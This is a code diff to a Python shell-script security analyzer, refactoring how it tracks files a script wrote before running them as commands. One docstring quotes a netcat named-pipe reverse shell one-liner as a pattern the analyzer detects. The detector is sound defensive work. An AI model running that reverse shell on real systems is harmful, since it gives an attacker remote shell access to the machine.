@@ -205,7 +205,10 @@ class NestedMixin(AnalyzerBase):
         if word.value is None:
             caps = ["proc.shell"] + (["code.dynamic[eval]"] if is_eval else [])
             self.run.add(frame, cmd, "shell-dynamic-command", caps, say("dynamic-code-word", how=how))
-            query = data_query(word, self._written_files())
+            said: list[str] = []
+            query = data_query(word, self.run.written_files(frame, cmd), said)
+            for why in said:
+                self.run.skip(frame, why, cmd.row, cmd.col)
             if query is not None:
                 self.run.add(frame, cmd, "shell-runs-data-command", caps, say("data-command", how=how, query=query))
             return
@@ -241,10 +244,6 @@ class NestedMixin(AnalyzerBase):
             self.run.decoded_texts.append((pin[0], dialect, shown))
         self.text(text, Frame(frame.line, frame.column, frame.depth + 1, dialect, pin, shown))
 
-    def _written_files(self) -> set[str]:
-        """The files this script downloaded or wrote before (a data query of one is not of a fixed source)."""
-        return set(self.run.downloads) | set(self.run.literal_files) | self.run.made
-
     def _pipeline_shell(self, cmd: Cmd, key: str, args: list[Word], frame: Frame) -> None:
         """`mkfifo f; cat f | sh -i 2>&1 | nc host port > f` and `nc host port | sh`."""
         if not (key in self.cm.shells or base_name(key) in self.cm.shells):
@@ -254,7 +253,7 @@ class NestedMixin(AnalyzerBase):
         if any(w.value and not w.value.startswith("-") for w in args):
             return
         up = cmd.upstream
-        if up is not None and data_piped(up, self._written_files()):
+        if up is not None and data_piped(up, self.run.written_files(frame, cmd)):
             self.run.add(frame, cmd, "shell-runs-data-command", ["proc.shell"],
                          say("data-piped", name=key, query=" ".join((up.text or "").split())[:60]))
         for other in (cmd.upstream, cmd.downstream):
